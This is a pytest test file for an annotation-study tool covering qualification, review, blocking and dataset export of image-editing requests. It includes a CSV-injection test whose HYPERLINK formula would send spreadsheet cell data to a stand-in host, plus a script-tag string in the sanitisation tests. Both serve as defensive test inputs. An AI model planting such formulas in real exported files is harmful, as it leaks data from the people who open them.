"""The annotation study: qualification, review, blocking, and the dataset that comes out."""

from __future__ import annotations

import csv
import io
from collections import Counter
from pathlib import Path

import numpy as np
import PIL.Image
import pytest
import sqlalchemy as sa

from t2onet.data import open_dataset
from t2onet.data.spreadsheet import from_csv
from t2onet.errors import OutputError, StudyError
from t2onet.studies import people
from t2onet.studies.creating import open_annotation_study
from t2onet.studies.database import (
    AnnotationSettings,
    CollectedRequest,
    Conflict,
    Forbidden,
    NotFound,
    Page,
    Person,
    PersonState,
    Review,
    StudyDatabase,
    StudySample,
)
from t2onet.studies.pages import (
    clean_request,
    find_page_picture,
    next_annotation_page,
    next_rating_page,
    save_request,
)
from t2onet.studies.results import REQUEST_COLUMNS, ExportedPairs, export_pairs, export_requests_csv
from t2onet.studies.review import list_requests, review_request, summarize_progress
from tests.studies.helpers import annotation_study, pairs_folder, rating_study, write_through

PLAIN = AnnotationSettings(requests=2, qualification=0)


def number_of(store: StudyDatabase, token: str) -> int:
    with store.reading() as session:
        return session.scalars(sa.select(Person.id).where(Person.token == token)).one()


def test_each_pair_gets_as_many_requests_as_wanted(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(store, tmp_path, 4, PLAIN)
    tokens = [people.add_person(store, study, name) for name in ("a", "b", "c")]
    counts = [len(write_through(store, token)) for token in tokens]
    assert counts == [4, 4, 0]
    with store.reading() as session:
        seen = Counter(session.scalars(sa.select(Page.sample_id)))
    assert set(seen.values()) == {2}


def test_the_way_in_leads_through_the_qualification(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(store, tmp_path, 6, AnnotationSettings(requests=1, qualification=2), said=3)
    token = people.add_person(store, study, "a")
    first = write_through(store, token)
    assert [(page.qualifying, page.done, page.left) for page in first] == [(True, 0, 2), (True, 1, 1)]
    assert people.get_person_status(store, token).state == PersonState.WAITING
    assert next_annotation_page(store, token) is None
    people.set_person_state(store, study, number_of(store, token), PersonState.ACCEPTED)
    then = write_through(store, token)
    assert [page.qualifying for page in then] == [False] * 4
    assert people.get_person_status(store, token).state == PersonState.ACCEPTED


def test_everybody_qualifies_on_the_same_pairs_of_which_something_is_known(
    store: StudyDatabase, tmp_path: Path
) -> None:
    study = annotation_study(store, tmp_path, 6, AnnotationSettings(qualification=2), said=3)
    for name in ("a", "b"):
        write_through(store, people.add_person(store, study, name))
    seen = list_requests(store, study)
    assert Counter(Counter(one.sample for one in seen).values()) == {2: 2}
    for one in seen:
        assert one.qualifying
        assert one.said == (f"make number {one.sample.split()[1]} brighter, please",)


def test_a_link_leads_back_to_the_page_that_was_left(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(store, tmp_path, 3, PLAIN)
    token = people.add_person(store, study, "a")
    page = next_annotation_page(store, token)
    assert page is not None
    assert next_annotation_page(store, token) == page
    sides = [find_page_picture(store, page.page, side).path for side in ("input", "target")]
    assert [path.parent.name for path in sides] == ["before", "after"]
    assert sides[0].name == sides[1].name


def test_a_request_stays_as_it_was_given(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(store, tmp_path, 2, PLAIN)
    token, other = (people.add_person(store, study, name) for name in ("a", "b"))
    page = next_annotation_page(store, token)
    assert page is not None
    save_request(store, token, page.page, "  make it\n  warmer\t")
    save_request(store, token, page.page, "make it warmer")
    with pytest.raises(Conflict, match="requests cannot be changed"):
        save_request(store, token, page.page, "make it colder")
    with pytest.raises(NotFound, match="not yours"):
        save_request(store, other, page.page, "make it warmer")
    assert [one.text for one in list_requests(store, study)] == ["make it warmer"]


@pytest.mark.parametrize("text", ["", "  \n ", "ok", "12345", "?!?", "x" * 501, "\0\0\0\0"])
def test_what_can_be_no_request(text: str) -> None:
    with pytest.raises(StudyError, match="a sentence of 3 to 500 characters"):
        clean_request(text)


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("make\u0000 it\u0007 warmer", "make it warmer"),
        ("加点暖色调", "加点暖色调"),
        ("<script>alert('x')</script> & \"brighter\"", "<script>alert('x')</script> & \"brighter\""),
        ("lone \ud800 surrogate", "lone surrogate"),
    ],
)
def test_what_is_kept_of_a_request(text: str, kept: str) -> None:
    assert clean_request(text) == kept


def test_a_rejected_request_is_asked_for_again_of_someone_else(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(store, tmp_path, 3, AnnotationSettings(requests=1, qualification=0))
    first, second = (people.add_person(store, study, name) for name in ("a", "b"))
    write_through(store, first)
    assert summarize_progress(store, study).answers == 3
    review_request(store, study, 2, Review.REJECTED, "  says\nnothing ")
    assert summarize_progress(store, study).answers == 2
    assert next_annotation_page(store, first) is None
    assert len(write_through(store, second)) == 1
    (rejected,) = list_requests(store, study, review=Review.REJECTED)
    assert (rejected.id, rejected.note) == (2, "says nothing")
    review_request(store, study, 2, Review.PENDING)
    assert summarize_progress(store, study).answers == 3, "not more than are wanted"
    with pytest.raises(NotFound, match="no request 77"):
        review_request(store, study, 77, Review.ACCEPTED)
    with pytest.raises(NotFound):
        review_request(store, study + 1, 1, Review.ACCEPTED)


def test_what_a_blocked_annotator_wrote_is_asked_for_again(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(store, tmp_path, 3, AnnotationSettings(requests=1, qualification=0))
    bad, good = (people.add_person(store, study, name) for name in ("a", "b"))
    write_through(store, bad)
    people.set_person_state(store, study, number_of(store, bad), PersonState.BLOCKED)
    with pytest.raises(Forbidden):
        next_annotation_page(store, bad)
    with pytest.raises(Forbidden):
        save_request(store, bad, "any", "make it warmer")
    assert len(write_through(store, good, "warmer")) == 3
    export_pairs(store, study, tmp_path / "out")
    requests = [request for sample in open_dataset(tmp_path / "out").samples for request in sample.requests]
    assert len(requests) == 3
    assert all("warmer" in request for request in requests)


def test_states_that_the_owner_cannot_choose(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(store, tmp_path, 3, PLAIN)
    people.add_person(store, study, "a")
    with pytest.raises(StudyError, match="use accepted or blocked"):
        people.set_person_state(store, study, 1, PersonState.WAITING)
    with pytest.raises(NotFound, match="no person 7"):
        people.set_person_state(store, study, 7, PersonState.BLOCKED)


def test_progress_tells_what_everybody_did(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(store, tmp_path, 4, AnnotationSettings(requests=2, qualification=1))
    first, second = (people.add_person(store, study, name) for name in ("a", "b"))
    write_through(store, first)
    people.set_person_state(store, study, number_of(store, first), PersonState.ACCEPTED)
    write_through(store, first)
    for number, verdict in ((1, Review.ACCEPTED), (2, Review.ACCEPTED), (3, Review.REJECTED)):
        review_request(store, study, number, verdict)
    found = summarize_progress(store, study)
    assert (found.kind, found.samples, found.answers, found.wanted) == ("annotation", 3, 2, 6)
    one, two = found.people
    assert (one.pages, one.accepted, one.rejected, one.pending, one.different) == (4, 2, 1, 1, 3)
    assert one.last is not None
    assert (two.link, two.state, two.pages, two.last) == (second, PersonState.QUALIFYING, 0, None)


def test_requests_are_read_in_sheets(
    store: StudyDatabase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("t2onet.studies.review._REVIEW_BATCH", 3)
    study = annotation_study(store, tmp_path, 4, PLAIN)
    for name in ("a", "b"):
        write_through(store, people.add_person(store, study, name))
    sheets = [list_requests(store, study, after=after) for after in (0, 3, 6, 8)]
    assert [[one.id for one in sheet] for sheet in sheets] == [[1, 2, 3], [4, 5, 6], [7, 8], []]
    assert {one.name for one in list_requests(store, study, person=2)} == {"b"}


def test_the_export_is_a_dataset(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(
        store, tmp_path / "pairs", 4, AnnotationSettings(requests=2, qualification=1), said=2
    )
    for name in ("a", "b"):
        token = people.add_person(store, study, name)
        write_through(store, token)
        people.set_person_state(store, study, number_of(store, token), PersonState.ACCEPTED)
        write_through(store, token, 'less "red", more green')
    assert export_pairs(store, study, tmp_path / "out") == ExportedPairs(3, 6)
    dataset = open_dataset(tmp_path / "out")
    assert (dataset.layout, dataset.problems) == ("pairs", ())
    original = {sample.name: sample for sample in open_dataset(tmp_path / "pairs").samples}
    for sample in dataset.samples:
        source = original[sample.name.replace("-", " ")]
        assert sample.split == source.split
        assert len(sample.requests) == 2
        assert all(request.startswith('make it less "red", more green, ') for request in sample.requests)
        for ours, theirs in zip(sample.open_photos(), source.open_photos(), strict=True):
            assert np.array_equal(ours.pixels, theirs.pixels)
    with pytest.raises(OutputError, match="out exists already; give another name"):
        export_pairs(store, study, tmp_path / "out")


def test_what_the_owner_accepted_is_exported_also_from_the_qualification(
    store: StudyDatabase, tmp_path: Path
) -> None:
    study = annotation_study(store, tmp_path, 3, AnnotationSettings(requests=1, qualification=1))
    token = people.add_person(store, study, "a")
    write_through(store, token)
    review_request(store, study, 1, Review.ACCEPTED)
    with pytest.raises(StudyError, match="no request to export yet"):
        export_pairs(store, study, tmp_path / "none")
    people.set_person_state(store, study, number_of(store, token), PersonState.ACCEPTED)
    write_through(store, token)
    assert export_pairs(store, study, tmp_path / "all") == ExportedPairs(3, 3)
    assert export_pairs(store, study, tmp_path / "reviewed", reviewed=True) == ExportedPairs(1, 1)


def test_an_export_fails_whole(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(store, tmp_path / "pairs", 3, PLAIN)
    write_through(store, people.add_person(store, study, "a"))
    (tmp_path / "pairs" / "after" / "pair 1.png").unlink()
    with pytest.raises(StudyError, match=r"pair 1.png does not exist any more"):
        export_pairs(store, study, tmp_path / "out")
    assert [path.name for path in tmp_path.iterdir() if "out" in path.name or path.name[0] == "."] == []


def test_the_table_of_all_requests(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(store, tmp_path, 3, PLAIN)
    write_through(store, people.add_person(store, study, "a"))
    review_request(store, study, 1, Review.REJECTED, "no")
    rows = list(csv.DictReader(io.StringIO(export_requests_csv(store, study))))
    assert tuple(rows[0]) == REQUEST_COLUMNS
    assert [row["request"] for row in rows] == [f"make it brighter, {n}" for n in range(3)]
    assert [row["review"] for row in rows] == ["rejected", "pending", "pending"]


HOSTILE = '=HYPERLINK("http://example.com/?"&A1,"open")'


def test_a_formula_is_exported_as_text_and_read_back_as_it_was(store: StudyDatabase, tmp_path: Path) -> None:
    study = annotation_study(store, tmp_path / "in", 1, AnnotationSettings(requests=1, qualification=0))
    token = people.add_person(store, study, "Mallory")
    page = next_annotation_page(store, token)
    assert page is not None
    save_request(store, token, page.page, HOSTILE)
    text = export_requests_csv(store, study)
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["request"] == f"'{HOSTILE}"
    assert from_csv(text)[0]["request"] == HOSTILE
    export_pairs(store, study, tmp_path / "out")
    assert "\"'=HYPERLINK" in (tmp_path / "out" / "requests.csv").read_text(encoding="utf-8")
    assert open_dataset(tmp_path / "out").samples[0].requests == (HOSTILE,)


def test_a_dataset_of_another_layout_will_do(store: StudyDatabase, tmp_path: Path) -> None:
    """Five requests for one pair in MA5k-Req are one pair to annotate, of which five things are known."""
    (tmp_path / "images").mkdir()
    (tmp_path / "annotations").mkdir()
    for number in ("0001", "0002"):
        for letter in "OA":
            PIL.Image.new("RGB", (8, 8), "teal").save(tmp_path / "images" / f"{number}_{letter}.jpg")
    said = ("brighter", "warmer")
    entries = [f'{{"input": "0001_O.jpg", "output": "0001_A.jpg", "request": "{one}"}}' for one in said]
    entries.append('{"input": "0002_O.jpg", "output": "0002_A.jpg", "request": "darker"}')
    (tmp_path / "annotations" / "train_sess_1.json").write_text(f"[{','.join(entries)}]")
    study = open_annotation_study(store, tmp_path, PLAIN)
    with store.reading() as session:
        found = {
            s.name: s.said
            for s in session.scalars(sa.select(StudySample).where(StudySample.study_id == study))
        }
    assert found == {"0001_A": ["brighter", "warmer"], "0002_A": ["darker"]}


def test_studies_that_cannot_begin(store: StudyDatabase, tmp_path: Path) -> None:
    folder = pairs_folder(tmp_path, 3)
    with pytest.raises(StudyError, match="3 pairs leaves none of 3 to annotate"):
        open_annotation_study(store, folder, AnnotationSettings(qualification=3))
    with pytest.raises(StudyError, match="give 0 pairs or more"):
        AnnotationSettings(qualification=-1)
    with pytest.raises(StudyError, match="requests is 0; it must be at least 1"):
        AnnotationSettings(requests=0)


def test_a_link_of_the_other_kind_of_study(store: StudyDatabase, tmp_path: Path) -> None:
    annotator = people.add_person(store, annotation_study(store, tmp_path / "a", 2, PLAIN), "a")
    (tmp_path / "b").mkdir()
    rater = people.add_person(store, rating_study(store, tmp_path / "b", 1), "b")
    with pytest.raises(NotFound, match="collects no ratings"):
        next_rating_page(store, annotator)
    with pytest.raises(NotFound, match="collects no requests"):
        next_annotation_page(store, rater)
    with store.reading() as session:
        assert session.scalars(sa.select(CollectedRequest)).all() == []
